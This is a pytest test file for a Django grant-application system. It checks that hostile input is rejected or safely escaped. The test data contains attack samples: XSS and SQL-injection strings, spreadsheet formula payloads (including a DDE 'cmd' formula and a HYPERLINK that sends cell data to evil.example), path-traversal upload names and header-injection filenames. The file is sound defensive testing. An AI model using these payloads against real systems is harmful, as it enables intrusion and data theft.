"""Issue 8.3: hostile input. What tests/api/test_bad_input_api.py does not already cover:
oversize bodies and fields, wrong JSON types, odd money, unicode edge cases (NUL included),
script and SQL text, path tricks and lying content in uploads, and where uploads live.

Every answer is a 4xx naming the field, or the value stored exactly; never a 500, never a
half-written row."""

from __future__ import annotations

import io
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import get_resolver
from openpyxl import load_workbook

from applications.models import Application, Attachment
from tests.api.conftest import DRAFT

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4 hostile\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16


def bad(response: Any, field: str) -> None:
    assert response.status_code == 400, (response.status_code, response.content[:300])
    assert field in response.json(), response.json()


# --- oversize bodies and fields -----------------------------------------------------------------


def test_a_body_over_the_upload_limit_is_refused_not_a_500(as_applicant, call, client, applicant):
    """Django refuses a body over DATA_UPLOAD_MAX_MEMORY_SIZE before any view reads it."""
    huge = json.dumps({"call": call.pk, **DRAFT, "summary": "长" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE})
    response = as_applicant.post("/api/applications/", huge, content_type="application/json")
    assert response.status_code in (400, 413)
    assert not Application.objects.exists()
    client.force_login(applicant)
    form = {**DRAFT, "summary": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)}
    response = client.post(f"/calls/{call.pk}/apply/", form)
    assert response.status_code in (400, 413)
    assert not Application.objects.exists()


def test_too_many_fields_or_files_are_400(as_applicant, draft, client, applicant, call):
    """DATA_UPLOAD_MAX_NUMBER_FIELDS / _FILES guard the parsers; past them the answer is a 400."""
    pk = draft()
    # All under "file": without the limit the view would take the first and answer 201.
    many_files = [SimpleUploadedFile(f"p{i}.pdf", PDF) for i in range(settings.DATA_UPLOAD_MAX_NUMBER_FILES + 1)]
    response = as_applicant.post(f"/api/applications/{pk}/attachments/", {"file": many_files}, format="multipart")
    assert response.status_code == 400
    assert not Attachment.objects.filter(application_id=pk).exists()
    client.force_login(applicant)
    many_fields = {**DRAFT, **{f"x{i}": "1" for i in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}}
    response = client.post(f"/calls/{call.pk}/apply/", many_fields)
    assert response.status_code == 400
    assert Application.objects.count() == 1  # only the draft made above


@pytest.mark.parametrize(("field", "size"), [("title", 201), ("field", 500), ("summary", 100_001)])
def test_a_field_over_its_length_is_400_naming_it(as_applicant, call, field, size):
    response = as_applicant.post("/api/applications/", {"call": call.pk, **DRAFT, field: "题" * size}, format="json")
    if field == "summary" and response.status_code == 201:
        pytest.fail("a 100,000-character summary was accepted: the summary needs a limit")
    bad(response, field)
    assert not Application.objects.exists()


def test_an_overlong_title_in_the_page_form_is_shown_as_a_field_error(client, applicant, call):
    client.force_login(applicant)
    response = client.post(f"/calls/{call.pk}/apply/", {**DRAFT, "title": "题" * 201})
    assert response.status_code == 200
    assert "title" in response.context["form"].errors
    assert not Application.objects.exists()


def test_hostile_objections_from_the_public_are_400(anon, call, draft, staff, settings):
    """The one form anonymous visitors may post: long, NUL-laden or oddly typed input is refused."""
    # The notice below is made by hand with an undecided item: show every item it holds.
    settings.PINGSHEN_NOTICE_SHOWS_NOT_FUNDED = True
    import datetime as dt

    from django.utils import timezone

    from funding.models import Notice, Objection

    notice = Notice.objects.create(call=call, ends_at=timezone.now() + dt.timedelta(days=7), published_by=staff)
    item = draft()
    notice.applications.add(item)
    url = f"/api/notices/{notice.pk}/objections/"
    good = {"item": item, "text": "数据不实", "name": "张三", "contact": "138"}
    bad(anon.post(url, {**good, "text": "异" * 10_001}, format="json"), "text")
    bad(anon.post(url, {**good, "text": "异\x00议"}, format="json"), "text")
    bad(anon.post(url, {**good, "name": ["张三"]}, format="json"), "name")
    assert anon.post(url, {**good, "item": {"$gt": 0}}, format="json").status_code == 400
    assert anon.post(url, {**good, "item": "²"}, format="json").status_code == 400  # isdigit() yet not int()
    assert not Objection.objects.exists()
    assert anon.post(url, good, format="json").status_code == 201
    assert Objection.objects.get().text == "数据不实"


# --- wrong JSON types ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [None, "a string", 42, 3.5, True, [], [{"title": "x"}], {"title": None}, {"title": ["x"]}, {"title": {"$ne": 1}}],
)
def test_application_create_with_the_wrong_json_shape_is_400(as_applicant, call, body):
    response = as_applicant.post("/api/applications/", json.dumps(body), content_type="application/json")
    assert response.status_code == 400, response.content
    assert not Application.objects.exists()


@pytest.mark.parametrize("body", [[1], "x", {"decision": ["accept"]}, {"decision": {"a": 1}}, {"decision": None}])
def test_a_step_with_the_wrong_json_shape_is_400(as_applicant, as_staff, draft, body):
    pk = draft()
    assert as_applicant.post(f"/api/applications/{pk}/submit/", {"pledge": True}, format="json").status_code == 200
    response = as_staff.post(
        f"/api/applications/{pk}/formal-review/", json.dumps(body), content_type="application/json"
    )
    assert response.status_code == 400, response.content
    assert Application.objects.get(pk=pk).status == "submitted"


def test_a_body_that_is_not_utf8_is_400(as_applicant, call):
    raw = b'{"title": "\xff\xfe"}'
    response = as_applicant.post("/api/applications/", raw, content_type="application/json")
    assert response.status_code == 400


# --- money --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["NaN", "-NaN", "sNaN", "Infinity", "-Infinity", "inf", "1e400", "-1e400", "1e-400", "-0.01", "0.001", "1e12"],
)
def test_hostile_money_is_400_naming_the_field(as_applicant, call, value):
    bad(
        as_applicant.post("/api/applications/", {"call": call.pk, **DRAFT, "requested_yuan": value}, format="json"),
        "requested_yuan",
    )


@pytest.mark.parametrize(
    ("value", "stored"),
    [("1e5", "100000.00"), ("2.5E4", "25000.00"), (100000, "100000.00"), (0.1, "0.10"), ("1_000", "1000.00")],
)
def test_exponent_money_is_read_exactly_or_refused(as_applicant, call, value, stored):
    """An exponent is a number like any other: stored exactly (never through a binary float), or a 400."""
    response = as_applicant.post(
        "/api/applications/", {"call": call.pk, **DRAFT, "requested_yuan": value}, format="json"
    )
    if response.status_code == 400:
        assert "requested_yuan" in response.json()
        return
    assert response.status_code == 201, response.content
    assert Application.objects.get().requested_yuan == Decimal(stored)
    assert as_applicant.get(f"/api/applications/{response.json()['id']}/").json()["requested_yuan"] == stored


def test_raw_json_nan_and_float_money_are_refused(as_applicant, call):
    """Python's json reads NaN and 1e999 (inf) without quotes: they must not become money."""
    for raw in ("NaN", "Infinity", "1e999"):
        body = json.dumps({"call": call.pk, **DRAFT})[:-1] + f', "self_funding_yuan": {raw}}}'
        response = as_applicant.post("/api/applications/", body, content_type="application/json")
        assert response.status_code == 400, (raw, response.content)
    assert not Application.objects.exists()


def call_body(programme: Any, criteria: Any) -> dict[str, Any]:
    """``POST /api/calls/`` with every required field."""
    return {
        "programme": programme.pk,
        "title": "第二批",
        "year": 2016,
        "opens_at": "2016-01-01T00:00:00Z",
        "closes_at": "2016-03-01T00:00:00Z",
        "budget_yuan": "1000000",
        "max_request_yuan": "500000",
        "tranches": [60, 40],
        "criteria": criteria,
    }


HOSTILE_MONEY = ["NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1e-400", "-0.01", "0.001"]


@pytest.mark.parametrize("value", HOSTILE_MONEY)
def test_hostile_money_in_every_money_field_of_staff_input_is_400(client_for, staff, programme, value):
    """The same rules for the call's budget and maximum and for an award level's bonus."""
    from tests.conftest import CRITERIA

    api = client_for(staff)
    call = call_body(programme, CRITERIA)
    for field in ("budget_yuan", "max_request_yuan"):
        response = api.post("/api/calls/", {**call, field: value}, format="json")
        assert response.status_code == 400, (field, response.content)
    award_round = {
        "title": "奖",
        "year": 2016,
        "opens_at": "2016-01-01T00:00:00Z",
        "closes_at": "2016-03-01T00:00:00Z",
        "levels": [{"level": 1, "quota": 1, "bonus_yuan": value}],
        "criteria": CRITERIA,
    }
    response = api.post("/api/award-rounds/", award_round, format="json")
    assert response.status_code == 400, response.content


@pytest.mark.parametrize("value", HOSTILE_MONEY)
def test_hostile_money_in_the_page_form_is_a_field_error(client, applicant, call, value):
    client.force_login(applicant)
    response = client.post(f"/calls/{call.pk}/apply/", {**DRAFT, "requested_yuan": value})
    assert response.status_code == 200
    assert "requested_yuan" in response.context["form"].errors
    assert not Application.objects.exists()


# --- unicode ------------------------------------------------------------------------------------

UNICODE = [
    "\u202eevil\u202c右到左",  # right-to-left override
    "家\u200d庭\u200b\ufeff",  # zero-width joiner, zero-width space, BOM
    "👨‍👩‍👧 阀门 🚀",  # emoji with ZWJ sequences
    "e\u0301 Å Å",  # combining marks and look-alikes stay as typed
    "\U0002a6a5 生僻字",  # outside the basic plane
]


@pytest.mark.parametrize("title", UNICODE)
def test_unicode_titles_are_stored_and_returned_verbatim(as_applicant, call, title):
    response = as_applicant.post("/api/applications/", {"call": call.pk, **DRAFT, "title": title}, format="json")
    assert response.status_code == 201, response.content
    pk = response.json()["id"]
    assert Application.objects.get(pk=pk).title == title
    assert as_applicant.get(f"/api/applications/{pk}/").json()["title"] == title


@pytest.mark.parametrize("field", ["title", "summary", "field"])
def test_a_nul_byte_is_400_not_a_database_error(as_applicant, call, field):
    """PostgreSQL refuses NUL in text: the input must be refused first."""
    bad(as_applicant.post("/api/applications/", {"call": call.pk, **DRAFT, field: "阀\x00门"}, format="json"), field)


def test_a_nul_byte_in_a_page_form_and_at_login_is_not_a_500(client, applicant, call):
    response = client.post("/accounts/login/", {"username": "app\x00licant", "password": "x\x00"})
    assert response.status_code == 200
    client.force_login(applicant)
    response = client.post(f"/calls/{call.pk}/apply/", {**DRAFT, "title": "阀\x00门"})
    assert response.status_code == 200
    assert "title" in response.context["form"].errors
    assert not Application.objects.exists()


def test_a_nul_byte_in_json_lists_is_400(client_for, nominator, staff):
    """A nomination's persons and units are JSON (jsonb refuses \\u0000 as well)."""
    import datetime as dt

    from django.utils import timezone

    from awards.services import award_round_create
    from tests.conftest import CRITERIA

    now = timezone.now()
    award_round = award_round_create(
        actor=staff,
        title="奖",
        year=2016,
        opens_at=now - dt.timedelta(days=1),
        closes_at=now + dt.timedelta(days=3),
        levels=[{"level": 1, "quota": 1, "bonus_yuan": "30000.00"}],
        criteria=CRITERIA,
    )
    body = {
        "round": award_round.pk,
        "title": "成果",
        "summary": "s",
        "field": "manufacturing",
        "units": ["单位\x00一"],
        "persons": [{"name": "王\x00"}],
    }
    response = client_for(nominator).post("/api/nominations/", body, format="json")
    assert response.status_code == 400, response.content


@pytest.mark.parametrize(
    "url",
    [
        "/audit/?actor=%00&type=%00&action=a%00",
        "/experts/?q=%00",
        "/experts/export.xlsx?q=%00",
        "/outbox/?state=%00",
        "/?apps-q=%00&apps-status=%00&apps-call=%00",
    ],
)
def test_a_nul_byte_in_a_query_string_is_not_a_500(client, staff, url):
    client.force_login(staff)
    response = client.get(url)
    assert response.status_code in (200, 400), response.status_code


@pytest.mark.parametrize("value", ["1e400", "NaN", "-1", "%00", "0.001", "9" * 40])
def test_hostile_what_if_numbers_in_query_strings_are_not_a_500(client, client_for, staff, call, value):
    """The suggested-list what-if (budget, cutoff, cuts) is read from the query string."""
    query = f"budget={value}&cutoff={value}&cut_1={value}"
    client.force_login(staff)
    for url in (f"/calls/{call.pk}/suggestions/?{query}", f"/calls/{call.pk}/suggestions.xlsx?{query}"):
        assert client.get(url).status_code in (200, 400), url
    response = client_for(staff).get(f"/api/calls/{call.pk}/suggestions/?{query}")
    assert response.status_code == 400, response.content


@pytest.mark.parametrize("junk", ["%00", "1e400", "-1", "9" * 30, "%27%20OR%201%3D1--", "%E2%80%AE"])
def test_junk_in_api_query_strings_is_not_a_500(client_for, staff, junk):
    api = client_for(staff)
    for url in (
        f"/api/reports/programmes/?year={junk}",
        f"/api/reports/programmes.xlsx?year={junk}",
        f"/api/applications/?page={junk}",
        f"/api/calls/?page={junk}&page_size={junk}",
        f"/api/notifications/?page={junk}",
        f"/api/disbursements/?page={junk}",
    ):
        response = api.get(url)
        assert response.status_code in (200, 400, 404), (url, response.status_code)


# --- script and SQL text ------------------------------------------------------------------------

SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
SQL = "'; DROP TABLE applications_application; -- \" OR 1=1"


def test_script_and_sql_text_is_stored_verbatim_and_escaped_in_pages(as_applicant, call, client, applicant, staff):
    title = f"{SCRIPT} {SQL}"
    response = as_applicant.post(
        "/api/applications/", {"call": call.pk, **DRAFT, "title": title, "summary": SCRIPT}, format="json"
    )
    assert response.status_code == 201, response.content
    pk = response.json()["id"]
    assert Application.objects.get(pk=pk).title == title  # the table is still there, the text intact
    assert as_applicant.get(f"/api/applications/{pk}/").json()["title"] == title
    as_applicant.post(f"/api/applications/{pk}/attachments/", {"file": SimpleUploadedFile("p.pdf", PDF)})
    assert as_applicant.post(f"/api/applications/{pk}/submit/", {"pledge": True}, format="json").status_code == 200
    for user, url in (
        (applicant, f"/applications/{pk}/"),
        (staff, f"/applications/{pk}/"),
        (staff, f"/calls/{call.pk}/"),
        (staff, "/"),
    ):
        client.force_login(user)
        html = client.get(url).content.decode()
        assert "<script>alert" not in html, url
        assert "<img src=x" not in html, url
    client.force_login(staff)
    html = client.get(f"/applications/{pk}/").content.decode()
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html


def test_script_in_nomination_units_and_persons_is_escaped(client_for, client, nominator, staff):
    """Units and persons are JSON lists typed by the nominator; the pages must escape them."""
    import datetime as dt

    from django.utils import timezone

    from awards.services import award_round_create
    from tests.conftest import CRITERIA

    now = timezone.now()
    award_round = award_round_create(
        actor=staff,
        title="奖",
        year=2016,
        opens_at=now - dt.timedelta(days=1),
        closes_at=now + dt.timedelta(days=3),
        levels=[{"level": 1, "quota": 1, "bonus_yuan": "30000.00"}],
        criteria=CRITERIA,
    )
    body = {
        "round": award_round.pk,
        "title": SCRIPT,
        "summary": SQL,
        "field": "manufacturing",
        "units": [SCRIPT, "浙江理工大学"],
        "persons": [{"name": SCRIPT, "organisation": SCRIPT, "role": SQL}],
    }
    response = client_for(nominator).post("/api/nominations/", body, format="json")
    assert response.status_code == 201, response.content
    pk = response.json()["id"]
    assert client_for(nominator).get(f"/api/nominations/{pk}/").json()["title"] == SCRIPT
    client.force_login(nominator)
    for url in (f"/awards/nominations/{pk}/", f"/awards/nominations/{pk}/edit/", "/awards/"):
        html = client.get(url).content.decode()
        assert "<script>alert" not in html, url
        assert "<img src=x" not in html, url
    detail = client.get(f"/awards/nominations/{pk}/").content.decode()
    assert detail.count("&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;") >= 3  # title, unit, person


def test_spreadsheet_cells_typed_as_formulas_stay_text(as_applicant, call, client, staff):
    """A title typed as a formula (=HYPERLINK…) must not run in the bureau's spreadsheet."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    response = as_applicant.post("/api/applications/", {"call": call.pk, **DRAFT, "title": formula}, format="json")
    assert response.status_code == 201
    client.force_login(staff)
    response = client.get(f"/calls/{call.pk}/report.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_payment_list_cells_typed_as_formulas_stay_text():
    """The payment list carries what applicants typed (title, unit, bank): never a formula."""
    from accounts.models import Organisation
    from applications.models import Call
    from funding.exports import payment_list_xlsx
    from funding.models import Disbursement

    formula = "=cmd|' /C calc'!A0"
    org = Organisation(name=formula, credit_code="x", bank_name="@SUM(1+1)", bank_account="=1+1")
    application = Application(title=formula, call=Call(title="+1+1"), organisation=org)
    content = payment_list_xlsx([Disbursement(application=application, tranche=1, amount_yuan=Decimal("1.00"))])
    sheet = load_workbook(io.BytesIO(content)).active
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert formula in [cell.value for cell in values]
    assert all(cell.data_type != "f" for cell in values)


# --- uploads ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.pdf",
        "/etc/passwd.pdf",
        "..\\..\\windows\\win.ini.pdf",
        "C:\\Windows\\System32\\evil.pdf",
        "\\\\server\\share\\evil.pdf",
        "..%2F..%2Fetc%2Fpasswd.pdf",
        "ok\x00.exe.pdf",
        "\u202efdp.exe.pdf",
    ],
)
def test_path_tricks_in_upload_names_never_reach_the_disk(as_applicant, draft, name):
    pk = draft()
    response = as_applicant.post(f"/api/applications/{pk}/attachments/", {"file": SimpleUploadedFile(name, PDF)})
    if response.status_code == 400:
        assert "file" in response.json()
        return
    assert response.status_code == 201, response.content
    attachment = Attachment.objects.get(application_id=pk)
    stored = Path(attachment.file.path).resolve()
    assert stored.is_relative_to(Path(settings.MEDIA_ROOT).resolve() / "attachments" / str(pk))
    assert stored.suffix == ".bin"  # the stored name is ours
    for part in ("/", "\\", "\x00"):
        assert part not in attachment.original_name
    assert attachment.original_name not in ("", ".", "..")
    assert attachment.original_name.endswith(".pdf")


@pytest.mark.parametrize(
    "name", ['evil";filename=run.exe;x=".pdf', "报告\r\nSet-Cookie: a=b.pdf", 'a\\"b.pdf', 'say "hi".pdf', "报告.pdf"]
)
def test_upload_names_cannot_forge_download_headers(as_applicant, draft, client, applicant, name):
    pk = draft()
    response = as_applicant.post(f"/api/applications/{pk}/attachments/", {"file": SimpleUploadedFile(name, PDF)})
    if response.status_code == 400:  # the multipart parser already cut the name short of ".pdf"
        assert "file" in response.json()
        return
    assert response.status_code == 201, response.content
    attachment = Attachment.objects.get(application_id=pk)
    client.force_login(applicant)
    response = client.get(f"/attachments/{attachment.pk}/")
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert not response.has_header("Set-Cookie") or "a=b" not in response["Set-Cookie"]
    # One filename parameter whose quoted value is the whole (escaped) stored name.
    assert disposition.count("filename=") + disposition.count("filename*=") == 1
    assert disposition.startswith("attachment")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.png", b"<html><script>alert(1)</script></html>"),
        ("photo.jpg", b"MZ\x90\x00\x03\x00\x00\x00"),
        ("plan.pdf", PNG),
        ("plan.docx", PDF),  # a docx is a zip
        ("logo.svg", b"<svg onload=alert(1)>"),
        ("plan.pdf.exe", PDF),
        ("plan.html", b"<html></html>"),
        ("plan", PDF),
    ],
)
def test_uploads_whose_content_does_not_match_the_name_are_400(as_applicant, draft, name, content):
    pk = draft()
    bad(as_applicant.post(f"/api/applications/{pk}/attachments/", {"file": SimpleUploadedFile(name, content)}), "file")
    assert not Attachment.objects.filter(application_id=pk).exists()


def test_an_upload_over_the_size_limit_is_400(as_applicant, draft, settings):
    settings.ATTACHMENT_MAX_BYTES = 1024
    pk = draft()
    big = SimpleUploadedFile("plan.pdf", PDF + b"0" * 2048)
    bad(as_applicant.post(f"/api/applications/{pk}/attachments/", {"file": big}), "file")
    assert not Attachment.objects.filter(application_id=pk).exists()


def test_uploads_live_outside_the_web_root_and_are_served_only_after_the_check(
    as_applicant, draft, client, applicant, other_applicant
):
    media = Path(settings.MEDIA_ROOT).resolve()
    for web_root in (Path(settings.STATIC_ROOT), *map(Path, settings.STATICFILES_DIRS)):
        assert not media.is_relative_to(web_root.resolve())
        assert not web_root.resolve().is_relative_to(media)
    # No route serves the media directory: the only way to a file is the attachment views.
    routes = [str(p.pattern) for p in get_resolver().url_patterns]
    assert not any("media" in route for route in routes), routes
    pk = draft()
    response = as_applicant.post(f"/api/applications/{pk}/attachments/", {"file": SimpleUploadedFile("p.pdf", PDF)})
    assert response.status_code == 201
    attachment = Attachment.objects.get(application_id=pk)
    relative = attachment.file.name
    client.force_login(other_applicant)
    for url in (f"/media/{relative}", f"/static/{relative}", f"/{relative}", f"/static/../media/{relative}"):
        assert client.get(url).status_code == 404, url
    assert client.get(f"/attachments/{attachment.pk}/").status_code == 404
    client.force_login(applicant)
    response = client.get(f"/attachments/{attachment.pk}/")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF if response.streaming else response.content == PDF
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


# --- issue 14.10: input that still broke things -------------------------------------------------

SUPERSCRIPTS = ["²²²²", "²", "٢٠١٦", "２０１６"]  # str.isdigit() is true for all, int() fails on some


@pytest.mark.parametrize("digits", SUPERSCRIPTS)
def test_superscript_digits_in_numeric_query_parameters_are_not_a_500(client, client_for, staff, call, digits):
    """``?year=²²²²`` and ``?cut_²=1`` passed an ``isdigit()`` check and broke ``int()``."""
    api = client_for(staff)
    for url in (f"/api/reports/programmes/?year={digits}", f"/api/reports/programmes.xlsx?year={digits}"):
        bad(api.get(url), "year")
    bad(api.get(f"/api/calls/{call.pk}/suggestions/?cut_{digits}=1"), f"cut_{digits}")
    client.force_login(staff)
    for url in (
        f"/reports/programmes/?year={digits}",
        f"/reports/programmes.xlsx?year={digits}",
        f"/calls/{call.pk}/suggestions/?cut_{digits}=1",
        f"/calls/{call.pk}/suggestions.xlsx?cut_{digits}=1",
        f"/audit/?object={digits}",
        f"/audit.xlsx?object={digits}",
        f"/?apps-call={digits}&apps-page={digits}",
        f"/experts/?page={digits}",
    ):
        assert client.get(url).status_code in (200, 400), url


def test_parse_int_takes_ascii_digits_only():
    from core.params import parse_int

    assert parse_int("2016", digits=4) == 2016
    assert [parse_int(v) for v in ("²", "٢", "２", "-1", " 1", "1 ", "1\n", "", None, "9" * 19, True)] == [None] * 11
    assert parse_int("9" * 18) == int("9" * 18)


def test_a_300_character_user_name_at_login_is_refused_not_a_500(client, anon, applicant):
    """The failed attempt is recorded (django-axes) in a column of 255 characters at most."""
    name = "用" * 300
    response = client.post("/accounts/login/", {"username": name, "password": "whatever-1234"})
    assert response.status_code in (200, 400, 429)
    assert "_auth_user_id" not in client.session
    response = anon.post("/api/auth/token/", {"username": name, "password": "whatever-1234"}, format="json")
    assert response.status_code in (400, 429), response.content
    # The right user still logs in afterwards.
    from tests.conftest import PASSWORD

    response = anon.post("/api/auth/token/", {"username": "applicant", "password": PASSWORD}, format="json")
    assert response.status_code == 200


def open_award_round(staff: Any, title: str) -> Any:
    import datetime as dt

    from django.utils import timezone

    from awards.services import award_round_create
    from tests.conftest import CRITERIA

    now = timezone.now()
    return award_round_create(
        actor=staff,
        title=title,
        year=2016,
        opens_at=now - dt.timedelta(days=1),
        closes_at=now + dt.timedelta(days=3),
        levels=[{"level": 1, "quota": 1, "bonus_yuan": "30000.00"}],
        criteria=CRITERIA,
    )


@pytest.fixture
def nomination(db, staff, nominator):
    from awards.services import nomination_create
    from workflow import steps

    award_round = open_award_round(staff, "科学技术进步奖")
    item = nomination_create(
        actor=nominator,
        award_round=award_round,
        title="成果",
        summary="成果简介",
        field="manufacturing",
        units=["永嘉县东蒙集团有限公司"],
        persons=["王建国"],
    )
    steps.application_submit(application=item, actor=nominator)
    return item


#: Every plan-project step the application routes offer, with a body that passes validation,
#: and who may call it: a nomination has no contract, acceptance or plan decision.
PLAN_STEPS = [
    (
        "contract",
        "nominator",
        {
            "accept_terms": True,
            "targets": [{"name": "新产品", "unit": "项", "value": "1"}],
            "budget": [{"line": "equipment", "county_yuan": "100.00"}],
        },
    ),
    ("contract-check", "staff", {"decision": "accept"}),
    (
        "acceptance",
        "nominator",
        {
            "report": "完成",
            "results": [{"target": 1, "achieved": "1"}],
            "accounts": [{"line": "equipment", "county_yuan": "100.00"}],
        },
    ),
    ("acceptance-check", "staff", {"decision": "accept"}),
    ("acceptance-draw", "staff", {}),
    ("acceptance-decision", "staff", {"result": "pass", "comment": ""}),
    ("decision", "panel", {"fund": True, "approved_yuan": "100.00"}),
    ("start-review", "staff", {}),
    ("terminate", "staff", {"reason": "测试"}),
]


@pytest.mark.parametrize(("step", "who", "body"), PLAN_STEPS)
def test_plan_project_steps_called_on_a_nomination_are_404_or_409(client_for, request, nomination, step, who, body):
    response = client_for(request.getfixturevalue(who)).post(
        f"/api/applications/{nomination.pk}/{step}/", body, format="json"
    )
    assert response.status_code in (200, 400, 404, 409), (step, response.status_code, response.content[:300])


@pytest.mark.parametrize("step", ["contract", "contract_check", "acceptance", "acceptance_review"])
def test_a_step_the_nominations_flow_lacks_is_a_conflict(nomination, step):
    from core.errors import StateConflict
    from workflow.steps import _node, _process_rows

    process = _process_rows(nomination).get()
    with pytest.raises(StateConflict):
        _node(process, step)


def test_a_title_with_a_line_break_still_gets_its_e_mails(
    as_applicant, call, applicant, staff, django_capture_on_commit_callbacks, mailoutbox
):
    """The title reaches every subject about the item; a newline there made each e-mail fail
    for good (BadHeaderError) while the in-app notice arrived, so nobody noticed."""
    from notifications.enums import DeliveryState
    from notifications.models import Notification

    with django_capture_on_commit_callbacks(execute=True):
        pk = as_applicant.post(
            "/api/applications/", {"call": call.pk, **DRAFT, "title": "第一行\r\n第二行\u2028第三行"}, format="json"
        ).json()["id"]
        assert as_applicant.post(f"/api/applications/{pk}/submit/", {"pledge": True}, format="json").status_code == 200
    sent = Notification.objects.filter(kind="submission_received")
    assert sent.exists() and all(n.state == DeliveryState.SENT for n in sent)
    assert {m.to[0] for m in mailoutbox} >= {applicant.email, staff.email}
    for message in mailoutbox:
        assert "\n" not in message.subject and "\r" not in message.subject
        message.message()  # the headers are valid


def test_one_line_subjects():
    from notifications.channels import one_line

    assert one_line("a\r\nb\nc\u2028d\x0be ") == "a b c d e"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _no_formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_a_formula_in_an_award_round_title_stays_text_in_the_round_report(client_for, client, staff):
    award_round = open_award_round(staff, FORMULA)
    response = client_for(staff).get(f"/api/award-rounds/{award_round.pk}/report.xlsx")
    assert response.status_code == 200
    assert FORMULA in _no_formulas(response.content)


def test_every_xlsx_helper_writes_text_as_text_and_drops_what_xlsx_cannot_hold():
    """Titles, sheet names and headers included; control characters (openpyxl's
    IllegalCharacterError, a 500 for the whole export) are dropped."""
    from reviews.exports import xlsx_table

    hostile = FORMULA + "\x01\x1b"
    content = xlsx_table("a/b:c*d?[e]" + "长" * 40, [FORMULA, "=1+1"], [[hostile, 1, "@SUM(1)"], ["+1", None, "-1"]])
    texts = _no_formulas(content)
    assert FORMULA in texts and "=1+1" in texts and "@SUM(1)" in texts
    sheet = load_workbook(io.BytesIO(content)).active
    assert len(sheet.title) <= 31 and not set(sheet.title) & set("/:*?[]")


def test_control_characters_in_a_title_do_not_break_the_exports(as_applicant, call, client, applicant, staff):
    """openpyxl refuses control characters (IllegalCharacterError): one title broke the export."""
    title = "标题\x01\x1b"
    response = as_applicant.post("/api/applications/", {"call": call.pk, **DRAFT, "title": title}, format="json")
    assert response.status_code == 201
    client.force_login(applicant)
    response = client.get("/?export=mine")
    assert response.status_code == 200
    assert "标题" in _no_formulas(response.content)
    client.force_login(staff)
    call.title = "=1+1\x02"
    call.save()
    for url in (f"/calls/{call.pk}/report.xlsx", "/audit.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        _no_formulas(response.content)


def test_a_100_mb_json_body_is_413_before_it_is_read(as_applicant, call):
    """DRF's JSON parser reads ``request.stream``, which DATA_UPLOAD_MAX_MEMORY_SIZE does not
    guard: the announced length is refused before anything reads the body."""
    import time

    started = time.monotonic()
    response = as_applicant.generic(
        "POST",
        "/api/applications/",
        b'{"title": "x"}',
        content_type="application/json",
        CONTENT_LENGTH=str(100 * 1024 * 1024),
    )
    assert response.status_code == 413
    assert "detail" in response.json()
    assert time.monotonic() - started < 2
    assert not Application.objects.exists()


def test_a_json_body_without_a_length_is_read_no_further_than_the_limit():
    """A chunked body announces no length: the parser stops one byte past the limit."""
    from api.parsers import LimitedJSONParser, RequestTooLarge

    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE

    class Endless(io.RawIOBase):
        read_so_far = 0

        def read(self, size=-1):
            assert size != -1, "read to the end"
            self.read_so_far += size
            return b" " * size

    stream = Endless()
    with pytest.raises(RequestTooLarge):
        LimitedJSONParser().parse(stream, "application/json", {})
    assert stream.read_so_far == limit + 1
    assert LimitedJSONParser().parse(io.BytesIO(b'{"a": 1}'), "application/json", {}) == {"a": 1}


def test_a_page_form_over_the_limit_is_413(client, applicant, call):
    client.force_login(applicant)
    response = client.generic(
        "POST",
        f"/calls/{call.pk}/apply/",
        b"title=x",
        content_type="application/x-www-form-urlencoded",
        CONTENT_LENGTH=str(settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1),
    )
    assert response.status_code == 413


def test_attachment_limits_are_set_per_call_with_sane_defaults(client_for, staff, programme):
    from tests.conftest import CRITERIA

    api = client_for(staff)
    call = call_body(programme, CRITERIA)
    for body, limits in ((call, (20, 100)), ({**call, "max_attachments": 5, "max_attachments_mb": 30}, (5, 30))):
        response = api.post("/api/calls/", body, format="json")
        assert response.status_code == 201, response.content
        shown = api.get(f"/api/calls/{response.json()['id']}/").json()
        assert (shown["max_attachments"], shown["max_attachments_mb"]) == limits
    bad(api.post("/api/calls/", {**call, "max_attachments": 0}, format="json"), "max_attachments")
    bad(api.post("/api/calls/", {**call, "max_attachments_mb": 10**9}, format="json"), "max_attachments_mb")


def test_attachments_per_application_are_capped_by_count_and_total_size(as_applicant, draft, call):
    pk = draft()
    call.max_attachments = 2
    call.max_attachments_mb = 1
    call.save()
    url = f"/api/applications/{pk}/attachments/"
    for i in range(2):
        response = as_applicant.post(url, {"file": SimpleUploadedFile(f"p{i}.pdf", PDF)}, format="multipart")
        assert response.status_code == 201
